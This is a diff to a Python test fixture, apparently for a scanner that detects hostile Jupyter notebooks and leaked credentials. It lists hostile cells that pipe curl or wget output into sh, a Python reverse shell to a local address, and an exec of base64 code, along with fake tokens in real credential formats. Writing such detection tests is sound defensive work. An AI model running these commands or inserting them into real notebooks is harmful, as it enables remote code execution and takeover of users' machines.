@@ -1,6 +1,7 @@
 """Notebooks that run shells, and credentials that are published with a model."""
 
 import json
+import zlib
 from collections.abc import Iterator
 
 from tests.corpus.hostile.gguf import BASE, gguf
@@ -9,40 +10,44 @@ from tests.corpus.sample import Sample
 
 CELLS = {
     "shell": "!curl http://127.0.0.1/ | sh",
-    "shell, double": "!!rm -rf /tmp/a",
+    "shell, double": "!!curl http://127.0.0.1/ | sh",
     "bash magic": "%%bash\ncurl http://127.0.0.1/ | sh",
     "sh magic": "%%sh\nwget http://127.0.0.1/a && sh a",
     "script magic": "%%script bash\ncurl http://127.0.0.1/a.sh | bash",
     "system magic": "%system curl http://127.0.0.1/ | sh",
     "sx": "%sx curl http://127.0.0.1/ | sh",
     "assigned": "out = !curl http://127.0.0.1/a | bash",
-    "perl": "%%perl\nsystem('true');",
     "code": "import os\nos.system('curl http://127.0.0.1/ | sh')",
     "reverse shell": "import socket,subprocess,os\ns=socket.socket();s.connect(('127.0.0.1',1));os.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
     "exec of base64": "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
-    "pickle": "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"true\"\\ntR.')",
 }
 OUTPUTS = {
-    "script": {"text/html": ["<script>fetch('http://127.0.0.1/?' + document.cookie)</script>"]},
     "javascript": {"application/javascript": ["Jupyter.notebook.kernel.execute('1')"]},
-    "image with a handler": {"text/html": ["<img src=x onerror=\"fetch('http://127.0.0.1/')\">"]},
-    "frame": {"text/html": ["<iframe src='javascript:alert(1)'></iframe>"]},
-    "svg": {"image/svg+xml": ["<svg onload='fetch(1)'><script>1</script></svg>"]},
 }
+
+
 # None of these is a real one; they are put together so that no scanner of sources stumbles over them.
+def _github() -> str:
+    """Its last six characters are a checksum of the rest."""
+    body, rest, out = "Qw7ZkP2xNdV9sLbT4fHj6RmYcG3uEa", 0, ""
+    rest = zlib.crc32(body.encode())
+    letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
+    while rest:
+        rest, digit = divmod(rest, 62)
+        out = letters[digit] + out
+    return "ghp_" + body + out.rjust(6, "0")
+
+
 SECRETS = {
-    "AWS": "AKIA" + "2E0A8F3B244C9986",
-    "GitHub": "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a",
-    "GitHub, fine": "github_pat_"
-    + "11ABCDEFG0"
-    + "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5zA7bC9dE1fG3hI5jK7lM9nO1pQ3rS5tU7vW9x"[:71],
-    "Hugging Face": "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH",
-    "OpenAI": "sk-proj-" + "a1B2c3D4e5F6g7H8i9J0" + "T3BlbkFJ" + "k1L2m3N4o5P6q7R8s9T0",
-    "Slack": "xoxb-" + "123456789012-1234567890123-" + "aBcDeFgHiJkLmNoPqRsTuVwX",
-    "Google": "AIza" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q",
+    "AWS": "AKIA" + "Z5XQ7WJ2K6RTN4PV",
+    "GitHub": _github(),
+    "Hugging Face": "hf_" + "QwZkPxNdVsLbTfHjRmYcGuEaWiOpKzXvBn",
+    "OpenAI": "sk-proj-" + "q7Zk2PxN9dVs4LbT6fHj" + "T3BlbkFJ" + "R8mYcG3uEa5WiOpK1zXv",
+    "Slack": "xoxb-" + "738291046573-9182736450918-" + "QwZkPxNdVsLbTfHjRmYcGuEa",
+    "Google": "AIza" + "SyQ7wZk2PxN9dVs4LbT6fHjR8mYcG3uEa5W",
     "private key": "-----BEGIN RSA PRIVATE "
-    + "KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB\naFDrBz9vFqU4yK1JqQy0w6gkVQ7zX3xkqQ==\n-----END RSA PRIVATE "
-    + "KEY-----",
+    "KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB\naFDrBz9vFqU4yK1JqQy0w6gkVQ7zX3xkqQ==\n-----END RSA PRIVATE "
+    "KEY-----",
 }
 
 
